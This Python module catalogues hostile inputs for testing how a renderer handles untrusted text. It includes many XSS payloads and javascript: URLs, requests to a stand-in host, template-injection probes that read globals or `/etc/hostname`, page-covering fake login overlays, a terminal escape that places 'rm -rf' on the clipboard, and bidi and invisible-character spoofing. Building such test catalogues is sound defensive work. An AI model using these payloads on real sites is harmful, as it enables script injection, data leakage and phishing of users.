"""Texts that act where a page takes them for more than characters, by what they try.

One that is executed calls `ran` with its number, one that asks for something asks `payload.invalid` for it:
whoever looks on knows which it was. `test_payloads` shows that they act, where nothing stops them.
"""

from collections.abc import Iterator
from dataclasses import dataclass

RUN, ASK = "ran(§)", "http://payload.invalid/§"  # § is the number of the payload
IN_TEXT = "<p>{}</p>"
RUNS, ASKS, LEADS, COVERS, TYPESETS, RENDERS, FILLS, DRAWS = EFFECTS = (
    "runs a script",  # in a page of HTML, as it loads or once somebody acts
    "asks for an address",
    "leads to an address",  # by itself or when pressed; no policy of a page can keep a tab from leaving it
    "covers or takes away what stands around it",
    "is typeset by MathJax",
    "is rendered by MyST",
    "is filled in by a template",
    "is drawn otherwise than it is written",
)


@dataclass(frozen=True)
class Payload:
    """One hostile text.

    Attributes:
        number: its own, from 1.
        kind: what it is made of, such as "event".
        effect: what it tries, one of `EFFECTS`.
        text: itself.
        around: the place in a page where it would act; `{}` is the text.
    """

    number: int
    kind: str
    effect: str
    text: str
    around: str = IN_TEXT

    @property
    def raw(self) -> str:
        """The HTML of a page that takes the text as it is."""
        return self.around.replace("{}", self.text)


SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script >{RUN}</script >",
    f"<script\t>{RUN}</script\n>",
    f"<script/x>{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    f"<script type='text/javascript' charset=utf-8 nonce=1>{RUN}</script>",
    f"<script async>{RUN}</script><p>",
    f"<script>{RUN}//",
    f"<script><!--\n{RUN}\n//--></script>",
    f"<script>/*<!--<script>*/{RUN}</script>",
    f"<script>setTimeout('{RUN}')</script>",
    f"<script>Function('{RUN}')()</script>",
    f"<script>import('data:text/javascript,{RUN}')</script>",
    f"<script>document.write('<script>{RUN}<\\/script>')</script>",
    f"<script src='data:text/javascript,{RUN}'></script>",
    f"<script src=data:;base64,cmFuKDQyKQ==></script><script>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='data:text/javascript,{RUN}'/></svg>",
    f"<svg><desc><script>{RUN}</script></desc></svg>",
    f"<math><annotation-xml encoding=text/html><script>{RUN}</script></annotation-xml></math>",
    f"</p></div></article></main><script>{RUN}</script>",
    f"</td></tr></table><script>{RUN}</script><table>",
    f"<table><script>{RUN}</script></table>",
    f"<template><template></template></template><script>{RUN}</script>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
)
# Places that end where the text says so.
LEFT = {
    "textarea": "<textarea>{}</textarea>",
    "title": "<svg></svg><div hidden><title>{}</title></div>",
    "style": "<style>{}</style>",
    "xmp": "<xmp>{}</xmp>",
    "pre": "<pre>{}</pre>",
    "iframe": "<iframe>{}</iframe>",
    "noframes": "<noframes>{}</noframes>",
    "option": "<select><option>{}</option></select>",
    "button": "<button>{}</button>",
}
QUOTED = {
    "double": '<b title="{}">x</b>',
    "single": "<b title='{}'>x</b>",
    "bare": "<b title={}>x</b>",
}
# Handlers that a page calls as it loads.
AT_ONCE = {
    "img onerror": f"<img src=x onerror={RUN}>",
    "img onload": f"<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' onload={RUN} onerror={RUN}>",
    "image": f"<image src=x onerror={RUN}>",
    "audio": f"<audio src=x onerror={RUN}>",
    "video": f"<video src=x onerror={RUN}></video>",
    "source": f"<video><source onerror={RUN} src=x></video>",
    "picture": f"<picture><source srcset=x><img onerror={RUN}></picture>",
    "iframe": f"<iframe onload={RUN}></iframe>",
    "frame": f"<iframe srcdoc='' onload={RUN}></iframe>",
    "object": f"<object data=x onerror={RUN}></object>",
    "embed": f"<embed src='data:text/plain,' onload={RUN}>",
    "style": f"<style onload={RUN}></style>",
    "link": f"<link rel=stylesheet href=x onerror={RUN}>",
    "script": f"<script src=x onerror={RUN}></script>",
    "svg": f"<svg onload={RUN}></svg>",
    "svg image": f"<svg><image href=x onerror={RUN}></svg>",
    "svg style": f"<svg><style onload={RUN}></style></svg>",
    "svg script": f"<svg><script href=x onerror={RUN}></script></svg>",
    "input image": f"<input type=image src=x onerror={RUN}>",
    "input": f"<input autofocus onfocus={RUN}>",
    "select": f"<select autofocus onfocus={RUN}></select>",
    "textarea": f"<textarea autofocus onfocus={RUN}></textarea>",
    "button": f"<button autofocus onfocus={RUN}>x</button>",
    "anchor": f"<a href=# autofocus onfocus={RUN}>x</a>",
    "unknown tag": f"<xss autofocus tabindex=1 onfocus={RUN}>x</xss>",
    "editable": f"<b contenteditable autofocus onfocus={RUN}>x</b>",
    "details": f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "dialog": f"<dialog open onfocus={RUN}><button autofocus>x</button></dialog>",
    "body": f"<body onpageshow={RUN}>",
    "body onload": f"<body onload={RUN}>",
    "body onresize": f"<body onresize={RUN}>",
    "body onhashchange": f"<body onhashchange={RUN}>",
    "body onmessage": f"<body onmessage={RUN}>",
    "animation": f"<style>@keyframes x{{}}</style><b style='animation:x 1ms' onanimationend={RUN}>x</b>",
    "animation start": f"<style>@keyframes y{{}}</style><b style='animation:y 1s' onanimationstart={RUN}>",
    "svg begin": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "svg set": f"<svg><set onbegin={RUN} attributeName=x></svg>",
    "svg end": f"<svg><animate onend={RUN} attributeName=x dur=1ms></svg>",
    "track": f"<video><track default src='data:text/vtt,WEBVTT' onload={RUN} onerror={RUN}></video>",
    "marquee": f"<marquee onstart={RUN}>x</marquee>",
    "visibility": f"<b oncontentvisibilityautostatechange={RUN} style=content-visibility:auto>x</b>",
}
# Handlers that wait for somebody.
EVENTS = """
click dblclick mousedown mouseup mouseover mouseout mousemove mouseenter mouseleave wheel contextmenu auxclick
pointerdown pointerover pointerenter pointermove keydown keyup keypress copy cut paste drag dragstart dragover
drop scroll select focusin focusout touchstart input change beforeinput transitionend selectstart formdata
gotpointercapture search
"""
ON_ACTING = EVENTS.split()
# One handler, written in every way that a browser reads.
WRITTEN = (
    f"<img/src=x/onerror={RUN}>",
    f"<img\tsrc=x\tonerror={RUN}>",
    f"<img\nsrc=x\nonerror\n=\n{RUN}>",
    f"<img\x0csrc=x\x0conerror={RUN}>",
    f"<IMG SRC=x ONERROR={RUN}>",
    f"<img src=x onerror='{RUN}'>",
    f'<img src=x onerror="{RUN}">',
    f"<img src=x onerror  =  {RUN}>",
    "<img src=x onerror=&#114;&#97;n(§)>",
    "<img src=x onerror=&#x72;&#x61;&#x6e;(§)>",
    "<img src=x onerror=&#0000114an&lpar;§&rpar;>",
    "<img src=x onerror=r\\u0061n(§)>",
    "<img src=x onerror=top['r'+'an'](§)>",
    "<img src=x onerror=eval('r'+'an(§)')>",
    "<img src=x onerror=[§].map(ran)>",
    "<img src=x onerror=throw/**/onerror=ran,§>",
    f"<img src='x' x='>' onerror={RUN}>",
    f"<<img src=x onerror={RUN}>",
    f"<a<img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}//",
    f"<img src=x onerror={RUN} <p>",
    f"<img alt='<x' src=x onerror={RUN}>",
    f"<!-><img src=x onerror={RUN}>",
    f"<!-- x --!><img src=x onerror={RUN}>",
    f"<?x ><img src=x onerror={RUN}>",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"</x y='><img src=x onerror={RUN}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<b\x00><img src=x onerror={RUN}>",
    f"＜img src=x onerror={RUN}＞<img src=x onerror={RUN}>",
    f"&lt;img src=x onerror={RUN}&gt;<img src=x onerror={RUN}>",
)
# Addresses that are scripts.
ADDRESSES = (
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href=JaVaScRiPt:{RUN}>x</a>",
    f"<a href=' javascript:{RUN}'>x</a>",
    f"<a href='java\tscript:{RUN}'>x</a>",
    f"<a href='java\nscript:{RUN}'>x</a>",
    f"<a href='\x01javascript:{RUN}'>x</a>",
    f"<a href=javascript&colon;{RUN}>x</a>",
    f"<a href=&#106;avascript:{RUN}>x</a>",
    f"<a href=java&Tab;script:{RUN}>x</a>",
    f"<a href=java&NewLine;script:{RUN}>x</a>",
    f"<a href=javascript:/*x*/{RUN}//>x</a>",
    f"<a href='javascript://x%0a{RUN}'>x</a>",
    "<a href=javascript:%72an(§)>x</a>",
    f"<svg><a href=javascript:{RUN}><text y=9>x</text></a></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=9>x</text></a></svg>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=9>x</text></a></svg>",
    f"<svg><a><set attributeName=href to=javascript:{RUN} /><text y=9>x</text></a></svg>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<form><button formaction=javascript:{RUN}>x</button></form>",
    f"<form><input type=submit formaction=javascript:{RUN}></form>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='data:text/html,<script>{RUN}</script>'></iframe>",
    f"<object data=javascript:parent.{RUN}></object>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<embed src='data:text/html,<script>{RUN}</script>'>",
    f"<map name=m><area href=javascript:{RUN} shape=default></map><img usemap=#m src=x>",
    f"<base href=javascript:/a/><a href='\n{RUN}'>x</a>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"javascript:{RUN}",
)
REQUESTS = (
    f"<img src={ASK}>",
    "<img src=//payload.invalid/§>",
    f"<img srcset='{ASK} 1x'>",
    f"<img loading=eager decoding=sync src=HTTP:{ASK[5:]}>",
    f"<picture><source srcset={ASK}><img></picture>",
    f"<video poster={ASK}></video>",
    f"<video src={ASK}></video>",
    f"<audio src={ASK}></audio>",
    f"<audio><source src={ASK}></audio>",
    f"<object data={ASK}></object>",
    f"<embed src={ASK}>",
    f"<iframe src={ASK}></iframe>",
    f"<script src={ASK}></script>",
    f"<script type=module src={ASK}></script>",
    f"<link rel=stylesheet href={ASK}>",
    f"<link rel=icon href={ASK}>",
    f"<link rel=preload as=image href={ASK}>",
    f"<link rel=modulepreload href={ASK}>",
    f"<link rel=prefetch href={ASK}>",
    f"<link rel=preconnect href={ASK}>",
    f"<link rel=manifest href={ASK}>",
    f"<input type=image src={ASK}>",
    f"<body background={ASK}>",
    f"<table background={ASK}><td>x</table>",
    f"<svg><image href={ASK} width=9 height=9></svg>",
    f"<svg><use href={ASK}#x></svg>",
    f"<svg><filter id=f><feImage href={ASK} /></filter><rect filter=url(#f) width=9 height=9></svg>",
    f"<a href=# ping={ASK}>x</a>",
    f"<base href={ASK}/><img src=x>",
    f"<style>@import '{ASK}';</style>",
    f"<style>@import url({ASK});</style>",
    f"<style>p{{background:url({ASK})}}</style>",
    f"<style>@font-face{{font-family:f;src:url({ASK})}}p{{font-family:f}}</style>x",
    f"<style>p::before{{content:url({ASK})}}</style>",
    f"<svg><style>@import '{ASK}';</style></svg>",
    f"<p style=background:url({ASK})>x",
    f"<li style=\"list-style:url('{ASK}')\">x",
    f"<p style=\"border-image:url('{ASK}') 1;border:1px solid\">x",
    f"<p style=\"content:url('{ASK}')\">x",
    f"<p style=\"-webkit-mask-image:url('{ASK}')\">x",
    f"<p style=\"background:image-set('{ASK}' 1x)\">x",
    f'<p style="--a:url({ASK});background:var(--a)">x',
    f"<p style=\"cursor:url('{ASK}'),auto\">x",
    f'<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{ASK}"]}}]}}</script>',
    f"![x]({ASK})<img src={ASK}>",
)
LEADING = (
    f"<meta http-equiv=refresh content='0;url={ASK}'>",
    f"<a href={ASK}>x</a>",
    f"<a href={ASK} target=_self><b style='font-size:9em'>x</b></a>",
    f"<a href={ASK} download>x</a>",
    f"<svg><a href={ASK}><text y=9>x</text></a></svg>",
    f"<form action={ASK}><button>x</button></form>",
    f"<form action={ASK} method=post><input type=submit></form>",
    f"<form id=f action={ASK}></form><button form=f>x</button>",
    f"<form><button formaction={ASK}>x</button></form>",
    f"<form><input type=image alt=x formaction={ASK}></form>",
)
ESCAPED_CSS = (
    f"<p style='background:\\75rl({ASK})'>x",
    f"<p style='background:u\\72l({ASK})'>x",
    f"<p style='b\\61 ckground:url({ASK})'>x",
    f"<p style='background:/*x*/url({ASK})'>x",
    f"<p style='background:&#117;rl({ASK})'>x",
    f"<p style='background:URL({ASK})'>x",
    "<p style='background:url(\"http:\\2f\\2f payload.invalid/§\")'>x",
    "<p style='background:url(http&colon;//payload.invalid/§)'>x",
    f"<style>@\\69mport '{ASK}';</style>",
    f"<style>@im\\port '{ASK}';</style>",
    f"<style>@IMPORT '{ASK}';</style>",
    f"<style><!-- @import '{ASK}'; --></style>",
    f"<style>p{{}}/*</style>*/<style>@import '{ASK}';</style>",
    f"<style>p{{background:url({ASK}</style>",
    f"<style>\\70{{background:url({ASK})}}</style>",
    f"<style>[title^='x']{{background:url({ASK})}}</style><b title=x>x</b>",
    f"<style>:root{{--x:url({ASK})}}p{{background:var(--x)}}</style>",
    f"<style>@media all{{p{{background:url({ASK})}}}}</style>",
    f"<style>@supports(display:block){{p{{background:url({ASK})}}}}</style>",
    f"<style>@layer a{{p{{background:url({ASK})}}}}</style>",
)
COVER = "inset:0;background:#fff"
OVERLAYS = (
    f"<div style='position:fixed;{COVER}'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:red'>x</div>",
    f"<div style='position:absolute;{COVER};z-index:2147483647'>x</div>",
    f"<div style='POSITION:FIXED;{COVER}'>x</div>",
    f"<div style='position:\\66ixed;{COVER}'>x</div>",
    f"<div style='p\\6fsition:fixed;{COVER}'>x</div>",
    f"<div style='position/**/:fixed;{COVER}'>x</div>",
    f"<div style='position:&#102;ixed;{COVER}'>x</div>",
    f"<div style='all:unset;position:fixed;{COVER}'>x</div>",
    "<div style='margin:-50vh -50vw;height:200vh;width:200vw;position:relative;background:#fff'>x</div>",
    "<div style='transform:scale(99) translateY(-1px);background:#fff;height:9px'>x</div>",
    "<div style='scale:99;background:#fff;height:9px;width:9px;position:relative'>x</div>",
    "<div style='translate:0 -90px;height:300px;background:#fff'>x</div>",
    "<b style='font-size:999px;line-height:0;position:relative'>████</b>",
    "<div style='float:left;margin:-99px;width:99em;height:99em;position:relative;background:#fff'>x</div>",
    "<p style='position:relative;top:-200px;padding:300px;background:#fff'>x",
    f"<style>b.cover{{position:fixed;{COVER}}}</style><b class=cover>x</b>",
    f"<style>p::after{{content:'x';position:fixed;{COVER}}}</style>",
    f"<style>html::before{{content:'x';position:fixed;{COVER}}}</style>",
    "<style>body{display:none}</style>",
    "<style>*{visibility:hidden!important}</style>",
    "<style>body{opacity:0;pointer-events:none}</style>",
    "<style>main{transform:translate(-9999px)}</style>",
    "<style>@layer{main{display:none}}</style>",
    "<svg><style>main{display:none}</style></svg>",
    f"<iframe style='position:fixed;{COVER};width:100%;height:100%;border:0'></iframe>",
    f"<img alt=x style='position:fixed;{COVER};width:100%;height:100%'>",
    f"<svg style='position:fixed;{COVER};width:100%;height:100%'><rect width=100% height=100% /></svg>",
    "<svg style=overflow:visible;position:relative width=1><rect x=-9 y=-999 width=2999 height=2999 /></svg>",
    f"<form style='position:fixed;{COVER}'><input type=password></form>",
    f"<button style='position:fixed;{COVER}'>Log in</button>",
    f"<a href=# style='position:fixed;{COVER}'>x</a>",
    f"<dialog open style='position:fixed;{COVER};width:100%;height:100%;max-width:none'>x</dialog>",
    f"<marquee style='position:fixed;{COVER}'>x</marquee>",
    f"<table style='position:fixed;{COVER};width:100%;height:100%'><td>x</table>",
    f"<textarea style='position:fixed;{COVER};width:100%;height:100%'></textarea>",
)
SWALLOWING = (
    "<!-- x",
    "<textarea>x",
    "<xmp>x",
    "<plaintext>x",
    "<title>x",
    "<style>x",
    "<script>/*",
    "<noembed>x",
    "<iframe>x",
    "<select><option>x",
    "<template>x",
    "<b hidden>x",
    "<details><summary>x</summary>",
    "<b title='x",
    '<a href="x',
    "<svg><title>x",
    "<math><annotation>x",
    "<object>x",
    "<video>x",
    "<div style=display:none>x",
)
MATHS = (
    "$x^2$",
    "$$\\int x$$",
    "\\(x^2\\)",
    "\\[x^2\\]",
    "\\begin{equation}x\\end{equation}",
    "\\begin{align}x&=1\\end{align}",
    "$\\href{javascript:ran(§)}{x}$",
    "$\\href{http://payload.invalid/§}{x}$",
    "\\(\\require{html}\\style{position:fixed}{x}\\)",
    "\\(\\class{bd-header}{x}\\)",
    "\\(\\cssId{searchbox}{x}\\)",
    "\\(\\color{white}{hidden}\\)",
    "\\(\\def\\a{\\a\\a}\\a\\)",
    "\\(\\unicode{x3c}script\\unicode{x3e}\\)",
    "\\(\\text{<img src=x onerror=ran(§)>}\\)",
    "\\(\\rule{999em}{999em}\\)",
    "\\(\\llap{\\rule{99em}{99em}}\\)",
    "\\(\\phantom{hidden}\\)",
    "\\(\\bbox[red]{x}\\)",
    "the price is $5, or $6 a day",
    "\\(\\newcommand{\\sigma}{0}\\sigma\\)",
    "\\(\\hspace{-99em}x\\)",
)
MYST = (
    f"```{{raw}} html\n<script>{RUN}</script>\n```",
    f"```{{eval-rst}}\n.. raw:: html\n\n   <script>{RUN}</script>\n```",
    "```{include} ../_config.yml\n```",
    "```{literalinclude} ../_config.yml\n```",
    f"```{{image}} {ASK}\n```",
    f"```{{figure}} {ASK}\nx\n```",
    "```{math}\nx^2\n```",
    "```{note}\nx\n```",
    "```{code-cell}\nprint(1)\n```",
    "```{toctree}\n../secret\n```",
    "```{admonition} x\n:class: bd-header\nx\n```",
    "```{container} hidden\nx\n```",
    ":::{note}\nx\n:::",
    f"[x](javascript:{RUN})",
    f"<javascript:{RUN}>",
    f"[x]({ASK})",
    f"![x]({ASK})",
    f"[x]: {ASK}\n\n[x]",
    f"![x](data:image/svg+xml,<svg/onload={RUN}>)",
    "{ref}`searchbox`",
    "{term}`epsilon`",
    "{download}`../_config.yml`",
    "{math}`x^2`",
    "{eq}`x`",
    "{numref}`x`",
    "{doc}`/book/intro`",
    "{cite}`mitchell2019`",
    "(searchbox)=\n# x",
    "# x",
    "x\n===",
    "- x\n- y",
    "1. x\n2. y",
    "> x",
    "| a | b |\n|---|---|\n| x | y |",
    "x | y \\| z",
    "`` x ` y ``",
    "**x** _y_ ~~z~~",
    "x\\\ny",
    "---\ntitle: x\n---",
    "% hidden",
    "x\n\n+++\n\ny",
    "[^x]\n\n[^x]: y",
    "- [ ] x",
    "x\n: y",
    "&lt;b&gt; &#60;b&#62;",
    "http://payload.invalid/§",
    "\\<b\\>",
    "<div markdown=1>\n\n**x**\n\n</div>",
)
GLUE = (
    "{glue:text}`p1`",
    "{glue:text}`/book/intro::p1`",
    "{glue}`p1`",
    "{glue:md}`p1`",
    "```{glue:figure} p1\n```",
    "{glue:text}`p1:.2f`",
    "` {raw}`html` `",
    "'; import os; os._exit(3) #",
    "\\u003cb\\u003e",
    "\\x3cscript\\x3eran(§)\\x3c/script\\x3e",
    "__import__('os').getcwd()",
    "1e999",
    "'",
    '"',
    "\\",
    "\\'",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% raw %}x{% endraw %}",
    "{% include '/etc/hostname' %}",
    "{# hidden #}",
    "{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__ }}",
    "{{ cycler.__init__ }}",
    "{% for x in range(3) %}x{% endfor %}",
    "{{ '<b>'|safe }}",
    "{%- set x = 1 -%}",
    "{{ name }}",
    "{{ undefined.x }}",
    "{0.__class__}",
    "{0!r:>99}",
    "{}",
    "{{}}",
    "%(levelname)s %s %d %n",
    "%%",
    "$name ${name} $$",
    "{env[HOME]}",
)
ESC, CSI, OSC, BEL = "\x1b", "\x1b[", "\x1b]", "\x07"
ANSI = (
    f"{CSI}31mred{CSI}0m",
    f"{CSI}8mhidden{CSI}0m",
    f"{CSI}2Jcleared",
    f"{CSI}Htop",
    f"shown{CSI}2K\rover",
    f"{CSI}1A{CSI}2Kline above",
    f"{CSI}38;2;255;255;255mwhite",
    f"{CSI}?25lno cursor",
    f"{CSI}?1049hother screen",
    f"{CSI}6nasks the terminal",
    f"{OSC}0;title{BEL}x",
    f"{OSC}8;;{ASK}{ESC}\\link{OSC}8;;{ESC}\\",
    f"{OSC}52;c;cm0gLXJm{BEL}clipboard",
    f"{OSC}4;0;#fff{BEL}palette",
    f"{ESC}c reset",
    f"{ESC}P+q544e{ESC}\\x",
    f"{ESC}(0lines",
    "\x9b31mC1",
    "\x9d0;title\x9cC1",
    "secret\b\b\b\b\b\bpublic",
    "one\rtwo",
    "a\x00b",
    f"a{BEL}b",
    "a\x0bb\x0cc",
    "a\x7fb",
    "a\x85b",
)
# Name, and what it does to the text around it.
DIRECTION = {
    "RLO": "\u202e",
    "LRO": "\u202d",
    "RLE": "\u202b",
    "LRE": "\u202a",
    "PDF": "\u202c",
    "RLI": "\u2067",
    "LRI": "\u2066",
    "FSI": "\u2068",
    "PDI": "\u2069",
    "RLM": "\u200f",
    "LRM": "\u200e",
    "ALM": "\u061c",
}
TURNED = (
    "Ann \u202ellih\u202c, 44",
    "a\u202e, 2 \u202d1\u202c\u202c",
    "if admin \u202e\u2066# no\u2069 \u2066:",
    "report\u202egnp.exe",
    "\u2067\u2067\u2067\u2067x",
    "0.91\u202e19.0",
    "</\u202eb>\u202c",
    "&#x202e;turned",
    "\\u202eturned",
)
UNSEEN = {
    "zero-width space": "\u200b",
    "non-joiner": "\u200c",
    "joiner": "\u200d",
    "word joiner": "\u2060",
    "byte order mark": "\ufeff",
    "soft hyphen": "\u00ad",
    "function application": "\u2061",
    "invisible times": "\u2062",
    "invisible plus": "\u2064",
    "Mongolian vowel separator": "\u180e",
    "grapheme joiner": "\u034f",
    "Hangul filler": "\u3164",
    "half-width Hangul filler": "\uffa0",
    "Hangul initial filler": "\u115f",
    "Hangul medial filler": "\u1160",
    "Khmer inherent vowel": "\u17b5",
    "Mongolian variation": "\u180b",
    "variation selector": "\ufe00",
    "emoji variation": "\ufe0f",
    "further variation": "\U000e0100",
    "tag": "\U000e0041",
    "language tag": "\U000e0001",
    "deprecated digit shapes": "\u206e",
    "annotation": "\ufff9",
    "shorthand": "\U0001bca0",
    "musical beam": "\U0001d173",
    "braille blank": "\u2800",
    "line separator": "\u2028",
    "paragraph separator": "\u2029",
    "no-break space": "\u00a0",
    "en quad": "\u2000",
    "hair space": "\u200a",
    "ideographic space": "\u3000",
    "Ogham space": "\u1680",
    "private": "\ue000",
    "unassigned": "\u0378",
    "non-character": "\ufdd0",
}
STACKED = {
    "above": "\u0301" * 40,
    "below": "\u0323" * 40,
    "both": "\u030d\u0329" * 30,
    "enclosing": "\u20dd" * 12,
    "through": "\u0336" * 12,
}


def _families() -> Iterator[tuple[str, str, str, str]]:
    """Yield kind, effect, text and place of each payload."""

    def plain(kind: str, effect: str, texts, around: str = IN_TEXT):
        return ((kind, effect, text, around) for text in texts)

    yield from plain("script", RUNS, SCRIPTS)
    for tag, around in LEFT.items():
        yield "script", RUNS, f"</{tag}><script>{RUN}</script>", around
    yield "script", RUNS, f"--><script>{RUN}</script>", "<!-- {} -->"
    yield "script", RUNS, f"</script><script>{RUN}</script>", '<script>let x = "{}"</script>'
    yield "script", RUNS, f'";{RUN}//', '<script>var y = "{}"</script>'
    yield from plain("event", RUNS, AT_ONCE.values())
    for event in ON_ACTING:
        yield "event", RUNS, f"<b on{event}={RUN}>x</b>", IN_TEXT
    yield from plain("event, written otherwise", RUNS, WRITTEN)
    for quote, place in (('"', "double"), ("'", "single"), ("x", "bare")):
        for more in (
            f"{quote} onclick={RUN} x={quote}",
            f"{quote} autofocus tabindex=1 onfocus={RUN} x={quote}",
        ):
            yield "attribute", RUNS, more, QUOTED[place]
        yield "attribute", RUNS, f"{quote}><img src=x onerror={RUN}>", QUOTED[place]
    yield "attribute", RUNS, f"javascript:{RUN}//", '<a href="{}">x</a>'
    yield "attribute", COVERS, "position:fixed;inset:0;background:#fff", '<b style="{}">x</b>'
    yield "attribute", ASKS, f"x;background:url({ASK})", '<p style="color:{}">x'
    yield from plain("address", RUNS, ADDRESSES)
    yield from plain("request", ASKS, REQUESTS)
    yield from plain("link or form", LEADS, LEADING)
    yield from plain("CSS escape", ASKS, ESCAPED_CSS)
    yield from plain("overlay", COVERS, OVERLAYS)
    yield from plain("swallowing", COVERS, SWALLOWING)
    yield from plain("MathJax", TYPESETS, MATHS)
    yield from plain("MyST", RENDERS, MYST)
    yield from plain("glue", FILLS, GLUE)
    yield from plain("template", FILLS, TEMPLATES)
    yield from plain("ANSI", DRAWS, ANSI)
    for mark in DIRECTION.values():
        yield "direction", DRAWS, f"seen {mark}abc 12 (de)", IN_TEXT
    yield from plain("direction", DRAWS, TURNED)
    for mark in UNSEEN.values():
        yield "unseen", DRAWS, f"Ann{mark}Hill", IN_TEXT
    for marks in STACKED.values():
        yield "stacked", DRAWS, f"e{marks} x", IN_TEXT


def payloads() -> tuple[Payload, ...]:
    """Return the catalogue; no text stands in it twice."""
    made = [
        Payload(number, kind, effect, text.replace("§", str(number)), around)
        for number, (kind, effect, text, around) in enumerate(_families(), 1)
    ]
    return tuple(made)
